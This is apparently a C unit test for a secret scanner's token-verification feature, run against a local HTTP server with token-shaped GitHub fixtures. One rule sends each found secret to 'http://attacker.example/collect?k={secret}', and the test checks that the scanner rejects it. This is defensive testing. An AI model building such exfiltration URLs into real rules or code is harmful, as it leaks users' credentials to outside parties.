/*
 * tests/unit/test_verify.c - --verify against a local HTTP server standing in
 * for a provider: a known token is live, another dead, no server unknown.
 * Never a real provider.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "helpers.h"
#include "scan/scan.h"

#define GHP1 "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"
#define GHP2 "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"

typedef struct {
	int fd;
	int requests;
	char last[4096];
} server;

static void *serve(void *arg)
{
	server *s = arg;
	int c;

	while ((c = accept(s->fd, NULL, NULL)) >= 0) {
		char req[4096];
		ssize_t n = recv(c, req, sizeof(req) - 1, 0);
		const char *reply;
		req[n > 0 ? n : 0] = '\0';
		s->requests++;
		snprintf(s->last, sizeof(s->last), "%s", req);
		reply = strstr(req, "Authorization: token " GHP1 "\r\n")
		        ? "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
		        : "HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
		send(c, reply, strlen(reply), 0);
		close(c);
	}
	return NULL;
}

static const scan_finding *in_file(const scan_result *r, const char *path)
{
	const scan_finding_list *l = scan_result_findings(r);

	for (size_t i = 0; i < scan_finding_list_count(l); i++)
		if (!strcmp(scan_finding_list_get(l, i)->file_path, path))
			return scan_finding_list_get(l, i);
	return NULL;
}

static void test_verify_live_dead(void **state)
{
	char *dir = th_tmpdir(), *rules = th_join(dir, "rules"), *src = th_join(dir, "src");
	struct sockaddr_in addr;
	socklen_t alen = sizeof(addr);
	server s;
	pthread_t t;
	char yaml[2048];
	scan_options o = SCAN_OPTIONS_INIT;
	scan_result *r = NULL;
	const scan_finding *live, *dead;

	(void)state;
	memset(&s, 0, sizeof(s));
	memset(&addr, 0, sizeof(addr));
	addr.sin_family = AF_INET;
	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	assert_true((s.fd = socket(AF_INET, SOCK_STREAM, 0)) >= 0);
	assert_int_equal(bind(s.fd, (struct sockaddr *)&addr, sizeof(addr)), 0);
	assert_int_equal(listen(s.fd, 8), 0);
	assert_int_equal(getsockname(s.fd, (struct sockaddr *)&addr, &alen), 0);
	assert_int_equal(pthread_create(&t, NULL, serve, &s), 0);

	snprintf(yaml, sizeof(yaml),
	         "provider: Test\nrules:\n  - id: verify-gh\n    name: GitHub token\n"
	         "    pattern: '\\b(ghp_[A-Za-z0-9]{36})\\b'\n    keywords: [ghp_]\n    validator: crc32-base62\n"
	         /* Above the built-in GitHub rule's confidence, so this rule is the one kept. */
	         "    severity: critical\n    confidence: 99\n    remediation: revoke it\n"
	         "    verify:\n      url: http://127.0.0.1:%d/user\n      headers: ['Authorization: token {secret}']\n"
	         "      live: [200]\n      dead: [401, 403]\n"
	         "    examples: {positive: [a, b], negative: [c, d]}\n", ntohs(addr.sin_port));
	th_write(rules, "v.yaml", yaml);
	th_write(src, "live.py", "T = \"" GHP1 "\"\n");
	th_write(src, "dead.py", "T = \"" GHP2 "\"\n");
	o.target = src;
	o.jobs = 1;
	o.analyzers = "secrets";
	o.secret_rules_dir = rules;

	/* Off by default: nothing is sent anywhere. */
	assert_int_equal(scan_run(&r, &o), 0);
	assert_int_equal(s.requests, 0);
	assert_null(in_file(r, "live.py")->verified);
	scan_result_free(r);

	o.verify = true;
	assert_int_equal(scan_run(&r, &o), 0);
	assert_int_equal(s.requests, 2);
	live = in_file(r, "live.py");
	dead = in_file(r, "dead.py");
	assert_string_equal(live->verified, "live");
	assert_int_equal(live->confidence, 100);
	assert_int_equal(live->severity, SCAN_SEV_CRITICAL);
	assert_string_equal(dead->verified, "dead");
	assert_int_equal(dead->severity, SCAN_SEV_HIGH);
	scan_result_free(r);

	/* The server gone: no answer is "unknown", and the scan still completes. */
	shutdown(s.fd, SHUT_RDWR);
	close(s.fd);
	pthread_join(t, NULL);
	assert_int_equal(scan_run(&r, &o), 0);
	assert_string_equal(in_file(r, "live.py")->verified, "unknown");
	assert_int_equal(in_file(r, "live.py")->confidence, 99);
	scan_result_free(r);

	th_rmtree(dir);
	free(dir);
	free(rules);
	free(src);
}

static void test_verify_url_must_be_https(void **state)
{
	char *dir = th_tmpdir(), *rules = th_join(dir, "rules");
	scan_options o = SCAN_OPTIONS_INIT;
	scan_result *r = NULL;

	(void)state;
	th_write(rules, "v.yaml",
	         "provider: Test\nrules:\n  - id: leaky\n    name: n\n    pattern: '(ghp_[A-Za-z0-9]{36})'\n"
	         "    keywords: [ghp_]\n    severity: high\n    confidence: 90\n    remediation: r\n"
	         "    verify: {url: 'http://attacker.example/collect?k={secret}', live: [200], dead: [401]}\n"
	         "    examples: {positive: [a, b], negative: [c, d]}\n");
	o.target = dir;
	o.analyzers = "secrets";
	o.secret_rules_dir = rules;
	assert_int_equal(scan_run(&r, &o), SCAN_EINVAL);
	assert_non_null(strstr(scan_error_last()->message, "verify url must be https"));
	th_rmtree(dir);
	free(dir);
	free(rules);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_verify_live_dead),
		cmocka_unit_test(test_verify_url_must_be_https),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
